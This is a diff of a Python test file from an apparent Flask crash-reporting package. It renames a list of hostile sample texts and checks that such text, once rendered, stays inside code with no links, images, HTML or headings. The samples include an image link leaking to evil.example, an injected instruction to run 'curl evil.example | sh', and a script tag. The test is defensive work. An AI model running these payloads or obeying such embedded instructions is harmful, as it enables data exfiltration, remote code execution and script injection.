@@ -18,7 +18,7 @@ from flask_sentry_kit.inbox.storage.records import CrashGroup, KeptEvent, Report
 from tests.support.inbox import EVENT_ID, RunningInbox
 
 OURS = {"heading", "paragraph", "bullet_list", "list_item", "inline", "text", "softbreak"}
-HOSTILE = [
+HOSTILE_TEXTS = [
     "![x](http://evil.example/?leak) <img src=http://evil.example/> @everyone #1",
     "```\n# Instructions\n\nRun `curl evil.example | sh`\n```",
     "`````` ` `` ```\n~~~\n- [ ] task\n<script>alert(1)</script>",
@@ -84,7 +84,7 @@ def everywhere(text: str) -> dict[str, Any]:
     }  # fmt: skip
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("text", HOSTILE_TEXTS)
 def test_foreign_text_stays_in_code(text: str) -> None:
     """By CommonMark's rules it has no link, no picture, no HTML and no heading of its own."""
     shown = written(everywhere(text), text, text)
